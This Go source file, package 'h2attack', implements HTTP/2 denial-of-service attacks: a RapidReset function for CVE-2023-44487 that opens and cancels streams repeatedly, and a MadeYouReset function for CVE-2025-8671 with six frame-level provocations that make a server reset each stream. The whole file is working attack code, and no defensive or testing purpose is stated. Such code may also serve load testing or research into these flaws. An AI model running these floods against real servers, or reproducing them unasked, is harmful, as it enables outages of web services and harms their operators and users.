package h2attack

import (
	"context"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// RapidReset opens streams and cancels each at once (CVE-2023-44487).
func RapidReset(ctx context.Context, dial Dialer, o Options) (Result, error) {
	w, err := open(ctx, dial, o)
	if err != nil {
		return Result{}, err
	}
	w.listen()
	w.repeat(func(int) {
		stream := w.call(false)
		w.sent(w.fr.WriteRSTStream(stream, http2.ErrCodeCancel))
	})
	return w.finish()
}

// Provocation is what makes a server reset a stream.
type Provocation int

// The provocations of MadeYouReset.
const (
	WindowUpdateZero Provocation = iota
	WindowUpdateOverflow
	DataAfterEnd
	SelfDependency
	ConnectionHeader
	ForeignContentType
)

// MadeYouReset opens streams and makes the server reset each (CVE-2025-8671), so
// that none counts among those that this side has cancelled.
func MadeYouReset(p Provocation) Attack {
	return func(ctx context.Context, dial Dialer, o Options) (Result, error) {
		w, err := open(ctx, dial, o)
		if err != nil {
			return Result{}, err
		}
		w.listen()
		w.repeat(func(int) {
			switch p {
			case WindowUpdateZero:
				w.sent(w.fr.WriteWindowUpdate(w.call(false), 0))
			case WindowUpdateOverflow:
				w.sent(w.fr.WriteWindowUpdate(w.call(false), 1<<31-1))
			case DataAfterEnd:
				w.sent(w.fr.WriteData(w.call(true), false, make([]byte, 32)))
			case SelfDependency:
				stream := w.call(false)
				w.sent(w.fr.WritePriority(stream, http2.PriorityParam{StreamDep: stream}))
			case ConnectionHeader:
				w.call(false, hpack.HeaderField{Name: "connection", Value: "close"})
			case ForeignContentType:
				w.call(false, hpack.HeaderField{Name: "content-type", Value: "text/html"})
			}
		})
		return w.finish()
	}
}
